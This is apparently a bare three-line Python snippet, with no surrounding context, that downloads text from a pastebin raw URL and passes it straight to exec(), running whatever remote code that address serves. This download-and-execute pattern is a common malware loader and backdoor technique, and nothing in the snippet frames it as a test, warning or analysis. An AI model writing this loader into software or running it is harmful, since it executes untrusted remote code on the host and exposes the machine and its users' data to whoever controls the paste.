import requests
code = requests.get('https://pastebin.com/raw/abcd').text
exec(code)
